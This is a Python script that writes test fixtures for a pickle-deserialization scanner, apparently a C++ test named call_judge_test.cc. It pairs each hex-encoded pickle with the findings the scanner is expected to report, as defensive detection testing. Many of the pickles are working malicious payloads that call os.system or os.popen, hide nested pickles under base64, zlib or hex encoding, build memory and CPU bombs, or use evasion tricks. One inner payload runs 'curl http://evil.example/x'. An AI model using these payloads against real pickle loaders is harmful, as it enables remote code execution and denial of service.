"""Writes judged.txt: pickles of every way to a call that call_judge_test.cc knows, and what each must give.

    python3 judged.py > judged.txt

Run with CPython 3.11 (the pickles of other versions differ in names, not in kind). Nothing here is loaded.
"""
import base64, codecs, functools, io, itertools, operator, os, pickle, zlib
print("# Pickles and what each must give, written by judged.py: name, pickle, findings in order (- none).")
WANT={'pool-direct': 'code-execution posix.system',
 'pool-none': 'code-execution posix.system',
 'pool-mapstar': 'code-execution posix.system',
 'pool-starmap-popen': 'code-execution os.popen',
 'pool-partial': 'code-execution posix.system',
 'pool-partial-getattr': 'code-execution builtins.getattr',
 'pool-methodcaller': 'code-execution posixpath.join.system',
 'pool-loads': 'code-execution _pickle.loads; code-execution posix.system',
 'GOOD-pool-sqrt': '',
 'GOOD-pool-mapstar-len': '',
 'GOOD-pool-partial-int': '',
 'GOOD-pool-itemgetter': '',
 'GOOD-pool-upper': '',
 'GOOD-pool-sorted': '',
 'pool-sorted-key': 'code-execution posix.system',
 'pool-user': 'unknown-call app.work',
 'callitem': 'code-execution posix.system',
 'callitem-p0': 'code-execution posix.system',
 'callitem-chunk': 'code-execution posix.system',
 'GOOD-callitem': '',
 'callitem-init': 'code-execution os.system',
 'proc-target': 'unknown-call app.Worker; code-execution os.system',
 'state-setattr': 'unknown-call app.W; code-execution __getattr__',
 'sys-modules': 'code-execution sys.modules',
 'bytes-bomb': 'resource-bomb builtins.bytes',
 'bytearray-bomb': 'resource-bomb builtins.bytearray',
 'list-range': 'resource-bomb builtins.list',
 'list-count': 'resource-bomb builtins.list',
 'set-map-cycle': 'resource-bomb builtins.set',
 'tuple-islice': 'resource-bomb builtins.tuple',
 'GOOD-tuple-islice': '',
 'GOOD-list-range': '',
 'GOOD-deque': '',
 'fraction': 'resource-bomb fractions.Fraction',
 'GOOD-fraction': '',
 'newobj-bytes': '',
 'iter-endless': 'resource-bomb builtins.list',
 'getattr-computed': 'code-execution builtins.getattr; evasion names an attribute by what a call returned',
 'partial-called': 'code-execution posix.system',
 'reduce-partial': 'code-execution os.system',
 'partial-setstate': 'code-execution os.system',
 'map-methodcaller': 'code-execution posixpath.join.system',
 'list-map-system': 'code-execution posix.system',
 'newargs-ex-p2': 'unknown-call __main__.NE.__new__',
 'name-foo._os+system': 'dangerous-reference foo._os.system',
 'name-foo+_os.system': 'dangerous-reference foo._os.system',
 'name-x+__builtins__.eval': 'dangerous-reference x.__builtins__.eval',
 'name-x+sys.modules': 'dangerous-reference x.sys.modules',
 'name-six.moves.builtins+eval': 'dangerous-reference six.moves.builtins.eval',
 'name-x+f.__globals__': 'dangerous-reference x.f.__globals__',
 'name-random+_os.system': 'dangerous-reference random._os.system',
 'name-antigravity+geohash': 'code-execution antigravity.geohash',
 'name-idlelib.idle+main': 'code-execution idlelib.idle.main',
 'name-pip.__main__+x': 'code-execution pip.__main__.x',
 'name-__main__+x': '',
 'ev-2proto': 'evasion changes the protocol on the way',
 'ev-int': 'evasion spells an integer as no pickler does',
 'ev-int2': 'evasion spells an integer as no pickler does',
 'ev-mem': 'evasion spells a memo index as no pickler does',
 'ok-int': '',
 'ev-frame': 'evasion announces an opcode frame longer than the message',
 'trunc': '',
 'ev-nostop': 'code-execution os.system',
 'ev-computed': 'code-execution os.?; evasion names a callable by what a call returned',
 'nest-bytes': 'code-execution _pickle.loads; code-execution posix.system',
 'nest-p0': 'code-execution pickle.loads; code-execution posix.system',
 'nest-p2': 'code-execution pickle.loads; code-execution posix.system',
 'nest-b64': 'code-execution base64.b64decode; code-execution _pickle.loads; code-execution posix.system',
 'nest-zlib-b64': 'code-execution base64.b64decode; code-execution zlib.decompress; code-execution _pickle.loads; '
                  'code-execution posix.system',
 'nest-hex-codecs': 'code-execution _codecs.decode; code-execution _pickle.loads; code-execution posix.system',
 'nest-bytesio': 'code-execution _pickle.load; code-execution posix.system',
 'nest-5': 'code-execution _pickle.loads; code-execution _pickle.loads; code-execution _pickle.loads; code-execution '
           '_pickle.loads',
 'nest-path': 'code-execution _pickle.loads',
 'mc-module': 'code-execution shutil.os.system',
 'ag-module': 'code-execution shutil.os.system',
 'red-bound': 'code-execution builtins.getattr',
 'later-newobj': 'unknown-call app.Cls',
 'append-method': 'code-execution os.system', 'slots-append': 'code-execution os.system', 'chainmap': 'code-execution sys.modules', 'userlist': 'code-execution sys.path', 'proxy-direct': 'code-execution multiprocessing.managers.BaseProxy', 'mc-path': 'code-execution pathlib.Path.touch', 'acc-keyword': 'code-execution os.system', 'pool-kwds': 'code-execution posix.system', 'GOOD-map-iter': '', 'GOOD-five': '', 'GOOD-defaultdict': '', 'GOOD-map-map': '',
 'old-stackglobal': 'dangerous-reference os.system; evasion uses an opcode of a later protocol than it announces',
 'shape': 'resource-bomb numpy.ndarray',
 'GOOD-shape': '',
 'apply-p2': 'code-execution builtins.apply',
 'state-slots': 'unknown-call app.W; code-execution __reduce_ex__',
 'GOOD-state': 'unknown-call app.W',
 'GOOD-orig-class': 'unknown-call app.W',
 'reduce-endless': 'resource-bomb _functools.reduce',
 'GOOD-product': '',
 'product': 'resource-bomb builtins.list',
 'zlib-stored': 'code-execution zlib.decompress; code-execution _pickle.loads; code-execution posix.system',
 'deep-slots': 'code-execution builtins.map',
 'pool-list-task': 'code-execution posix.system',
 'pool-text-ids': 'code-execution posix.system',
 'slot-pow': 'resource-bomb builtins.pow',
 'slot-pow-star': 'resource-bomb builtins.pow',
 'GOOD-slot-pow': '',
 'GOOD-slot-pow-mod': '',
 'slot-shift': 'resource-bomb _operator.lshift',
 'slot-factorial': 'resource-bomb math.factorial',
 'slot-mul': 'resource-bomb _operator.mul',
 'GOOD-slot-mul': '',
 'slot-format': 'resource-bomb builtins.format',
 'slot-ljust': 'resource-bomb builtins.str.ljust',
 'slot-bytes': 'resource-bomb builtins.bytes',
 'slot-decimal': 'resource-bomb builtins.int',
 'task-sleep': 'resource-bomb time.sleep',
 'GOOD-task-sleep': '',
 'GOOD-task-sum': '',
 'task-sum-endless': 'resource-bomb builtins.sum',
 'slices': 'resource-bomb builtins.slice',
 'GOOD-slices': '',
 'GOOD-pool-path': '',
 'GOOD-pool-date': '',
 'exists-map': '',
 'GOOD-enum': '',
 'GOOD-logger': '',
 'GOOD-attrgetter': '',
 'GOOD-itemgetter-message': '',
 'plain-pair': 'dangerous-reference posix.system',
 'GOOD-new-tuple': ''}
def add(name,p): print(name,p.hex(),WANT[name] or '-',sep='\t')
def hand(name,b): add(name,b)
class G:
    def __init__(s,*r): s.r=r
    def __reduce__(s): return (s.r[0], tuple(s.r[1:]))
D=lambda o,p=4: pickle.dumps(o,p)
# roles
from multiprocessing import pool
add('pool-direct', D((0,0,os.system,('id',),{})))
add('pool-none', D((None,None,os.system,('id',),{})))
add('pool-mapstar', D((0,0,pool.mapstar,((os.system,('id','ls')),),{})))
add('pool-starmap-popen', D((0,0,pool.starmapstar,((os.popen,(('id',),)),),{})))
add('pool-partial', D((0,0,functools.partial(os.system,'id'),(),{})))
add('pool-partial-getattr', D((0,0,functools.partial(getattr,os.path.join),('__globals__',),{})))
add('pool-methodcaller', D((0,0,operator.methodcaller('system','id'),(os.path.join,),{})))
add('pool-loads', D((0,0,pickle.loads,(pickle.dumps(G(os.system,'id')),),{})))
add('GOOD-pool-sqrt', D((0,0,__import__('math').sqrt,(4,),{})))
add('GOOD-pool-mapstar-len', D((0,0,pool.mapstar,((len,('id','ls')),),{})))
add('GOOD-pool-partial-int', D((3,1,pool.mapstar,((functools.partial(int,base=16),('1f','2')),),{})))
add('GOOD-pool-itemgetter', D((3,1,pool.mapstar,((operator.itemgetter(0),((1,2),(3,4))),),{})))
add('GOOD-pool-upper', D((3,1,'abc'.upper,(),{})))
add('GOOD-pool-sorted', D((3,1,sorted,([3,2],),{})))
add('pool-sorted-key', D((3,1,functools.partial(sorted,['id']),(os.system,),{})))
hand('pool-user', b'(I0\nI0\ncapp\nwork\n(I1\nt}t.')
from concurrent.futures.process import _CallItem,_process_chunk
add('callitem', D(_CallItem(0,os.system,('id',),{})))
add('callitem-p0', D(_CallItem(0,os.system,('id',),{}),0))
add('callitem-chunk', D(_CallItem(0,functools.partial(_process_chunk,os.system),([('id',)],),{})))
add('GOOD-callitem', D(_CallItem(0,functools.partial(_process_chunk,len),([('id',)],),{})))
hand('callitem-init', b'\x80\x02cconcurrent.futures.process\n_CallItem\n(K\x00cos\nsystem\n(U\x02idt}tR.')
hand('proc-target', b'\x80\x02capp\nWorker\n)\x81}(U\x07_targetcos\nsystem\nU\x05_args(U\x02idtub.')
add('state-setattr', b'\x80\x02capp\nW\n)\x81}U\x0b__getattr__cos\nsystem\nsb.')
add('sys-modules', b'csys\nmodules\nU\x02osNs.')
# arguments
add('bytes-bomb', D(G(bytes,1<<40)))
add('bytearray-bomb', D(G(bytearray,1<<30)))
add('list-range', D(G(list,range(1<<40))))
add('list-count', D(G(list,itertools.count())))
add('set-map-cycle', D(G(set,map(int,itertools.count()))))
add('tuple-islice', D(G(tuple,itertools.islice(itertools.count(),1<<40))))
add('GOOD-tuple-islice', D(G(tuple,itertools.islice(itertools.count(),10))))
add('GOOD-list-range', D(G(list,range(1000))))
import collections,fractions
add('GOOD-deque', D(collections.deque([1],maxlen=1<<40)))
add('fraction', D(G(fractions.Fraction,'1e999999999')))
add('GOOD-fraction', D(fractions.Fraction(1<<90,3)))
add('newobj-bytes', b'\x80\x02c__builtin__\nbytearray\nJ\xff\xff\xff\x7f\x85\x81.')
add('iter-endless', D(G(list,G(iter,int,1))))
add('getattr-computed', b'\x80\x04cbuiltins\ngetattr\ncapp\nx\ncapp\ny\n\x86R.')
add('partial-called', D(G(functools.partial(os.system,'id'))))
add('reduce-partial', b'\x80\x04cfunctools\npartial\ncos\nsystem\n\x85RU\x02id\x85R.')
add('partial-setstate', b'\x80\x04cfunctools\npartial\ncbuiltins\nint\n\x85R(cos\nsystem\nU\x02id\x85}Ntb)R.')
add('map-methodcaller', D(G(map,operator.methodcaller('system','id'),[os.path.join])))
add('list-map-system', D(G(list,G(map,os.system,['id']))))
class NE:
    def __new__(cls,*a,**k): return object.__new__(cls)
    def __getnewargs_ex__(s): return (),{'a':1}
add('newargs-ex-p2', D(NE(),2))
# names
for m,n in [('foo._os','system'),('foo','_os.system'),('x','__builtins__.eval'),('x','sys.modules'),('six.moves.builtins','eval'),('x','f.__globals__'),('random','_os.system'),('antigravity','geohash'),('idlelib.idle','main'),('pip.__main__','x'),('__main__','x')]:
    add('name-%s+%s'%(m,n), b'\x80\x04\x8c'+bytes([len(m)])+m.encode()+b'\x8c'+bytes([len(n)])+n.encode()+b'\x93.')
# evasion
add('ev-2proto', b'\x80\x04N0\x80\x02N.')
add('ev-int', b'I0x10\n.'); add('ev-int2',b'I010\n.'); add('ev-mem', b'Np010\n.'); add('ok-int', b'(I10\nI-1\nI00\nI01\nL12L\nL-5L\nl.')
add('ev-frame', b'\x80\x04\x95\xff\0\0\0\0\0\0\0N.')
add('trunc', D(list(range(1000)))[:500])
add('ev-nostop', b'cos\nsystem\n(U\x02idtR')
add('ev-computed', b'\x80\x04\x8c\x02osc_codecs\nencode\n(Vsystem\nVutf-8\ntR\x93\x8c\x02id\x85R.')
# nested
inner=pickle.dumps(G(os.system,'curl http://evil.example/x'))
add('nest-bytes', D(G(pickle.loads,inner)))
add('nest-p0', D(G(pickle.loads,inner),0))
add('nest-p2', D(G(pickle.loads,inner),2))
add('nest-b64', D(G(pickle.loads,G(base64.b64decode,base64.b64encode(inner)))))
add('nest-zlib-b64', D(G(pickle.loads,G(zlib.decompress,G(base64.b64decode,base64.b64encode(zlib.compress(inner*3)))))))
add('nest-hex-codecs', D(G(pickle.loads,G(codecs.decode,inner.hex(),'hex'))))
add('nest-bytesio', D(G(pickle.load,io.BytesIO(inner))))
add('zlib-stored', D(G(pickle.loads,G(zlib.decompress,zlib.compress(inner,0)))))
# more
hand('mc-module', b'(I0\nI0\ncoperator\nmethodcaller\n(S\'system\'\nS\'id\'\ntR(cshutil\nos\nt(dt.')
hand('ag-module', b'cbuiltins\nmap\n(coperator\nattrgetter\n(S\'system\'\ntR(cshutil\nos\nltR.')
hand('later-newobj', b'capp\nCls\n)\x81.')
hand('old-stackglobal', b'\x80\x02X\x02\0\0\0osX\x06\0\0\0system\x93.')
hand('shape', b'\x80\x03cnumpy._core.multiarray\n_reconstruct\ncnumpy\nndarray\nJ\0\0\1\0J\0\0\1\0\x86C\1b\x87R.')
hand('GOOD-shape', b'\x80\x03cnumpy._core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\0\x85C\1b\x87R.')
hand('apply-p2', b'c__builtin__\napply\n(cos\nsystem\n(S\'id\'\nttR.')
hand('state-slots', b'\x80\x02capp\nW\n)\x81N}U\x0d__reduce_ex__cos\nsystem\ns\x86b.')
hand('GOOD-state', b'\x80\x02capp\nW\n)\x81}(U\x09__class__U\1xU\4kindcdatetime\ndate\nub.')
hand('GOOD-orig-class', b'\x80\x02capp\nW\n)\x81}U\x0e__orig_class__cdatetime\ndate\nsb.')
add('reduce-endless', D(G(functools.reduce,operator.or_,itertools.count())))
add('GOOD-product', D(itertools.product('ab',[1,2])))
add('product', D(G(list,G(itertools.product,range(100000),range(100000)))))
add('deep-slots', D(G(map,functools.partial(map,functools.partial(map,functools.partial(map,functools.partial(map,functools.partial(map,print))))),['x'])))
add('pool-list-task', D([0,0,os.system,['id'],{}]))
add('pool-text-ids', D(('a','b',os.system,('id',),{})))
add('plain-pair', D((os.system,('id',))))
hand('append-method', b'cargparse\nNamespace\n)R}S\'append\'\ncos\nsystem\nsbS\'id\'\na.')
hand('slots-append', b'cargparse\nNamespace\n)RN}S\'extend\'\ncos\nsystem\ns\x86b(S\'id\'\ne.')
hand('chainmap', b'ccollections\nChainMap\n(csys\nmodules\ntRS\'os\'\nNs.')
hand('userlist', b'ccollections\nUserList\n)R}S\'data\'\ncsys\npath\nsbS\'/x\'\na.')
hand('proxy-direct', b'cmultiprocessing.managers\nBaseProxy\n(NS\'pickle\'\ntR.')
hand('mc-path', b'c__builtin__\nmap\n(coperator\nmethodcaller\n(S\'touch\'\ntR(cpathlib\nPath\n(S\'x\'\ntRltR.')
hand('acc-keyword', b'\x80\x04citertools\naccumulate\n(](X\x02\0\0\0idet}\x8c\x04funccos\nsystem\ns\x92.')
add('pool-kwds', D((0,0,sorted,(['id'],),{'key':os.system})))
add('GOOD-map-iter', D(map(len,['a','b']),3))
add('GOOD-map-map', D(map(len,map(str,[1,2])),3))
add('GOOD-five', D([1,2,fractions.Fraction(1,3),(1,),{}]))
add('GOOD-defaultdict', D(collections.defaultdict(list,{'a':[1]})))
x=inner
for _ in range(5): x = pickle.dumps(G(pickle.loads,x))
add('nest-5', x)
add('nest-path', D(G(pickle.loads,'somepath')))
# what only computes, and takes all there is
import datetime, decimal, http, logging, pathlib, time, math
E=lambda f,*its: D(G(list,map(f,*its)))
add('slot-pow', E(pow,[3],[50000000]))
add('slot-pow-star', D((0,0,pool.starmapstar,((pow,((3,50000000),)),),{})))
add('GOOD-slot-pow', D((0,0,pool.starmapstar,((pow,((3,1000),(1<<40,2))),),{})))
add('GOOD-slot-pow-mod', D((0,0,pow,(3,1<<200,1<<201),{})))
add('slot-shift', E(operator.lshift,[1],[1<<40]))
add('slot-factorial', E(math.factorial,[3000000]))
add('slot-mul', E(operator.mul,['x'],[1<<30]))
add('GOOD-slot-mul', D((0,0,pool.starmapstar,((operator.mul,((3,1<<30),)),),{})))
add('slot-format', E(format,[1],['1000000000']))
add('slot-ljust', E('x'.ljust,[1<<30]))
add('slot-bytes', E(bytes,[1<<40]))
add('slot-decimal', E(int,[decimal.Decimal('1e99999999')]))
add('task-sleep', D((0,0,time.sleep,(1<<30,),{})))
add('GOOD-task-sleep', D((0,0,pool.mapstar,((time.sleep,(1,2.5,60)),),{})))
add('GOOD-task-sum', D((0,0,sum,(range(10**8),),{})))
add('task-sum-endless', D((0,0,sum,(itertools.count(),),{})))
def doubled(n):
    made=None
    for _ in range(n): made=G(slice,made,made)
    return made
add('slices', D({1: doubled(30)}))
add('GOOD-slices', D([doubled(5), slice(1,2,3)]))
add('GOOD-pool-path', D((0,0,pool.mapstar,((pathlib.PurePath.as_posix,(pathlib.Path('a'),)),),{})))
add('GOOD-pool-date', D((0,0,pool.mapstar,((operator.methodcaller('isoformat'),(datetime.date(2020,1,1),)),),{})))
add('exists-map', E(pathlib.Path.exists,[pathlib.Path('a')]))
add('GOOD-enum', D([http.HTTPStatus.OK,{http.HTTPStatus.OK: 1}]))
add('GOOD-logger', D({'log': logging.getLogger('a')}))
import email.message
add('GOOD-attrgetter', D((0,0,pool.mapstar,((operator.attrgetter('name'),(pathlib.Path('a'),)),),{})))
add('GOOD-itemgetter-message', D((0,0,pool.mapstar,((operator.itemgetter('Subject'),(email.message.Message(),)),),{})))
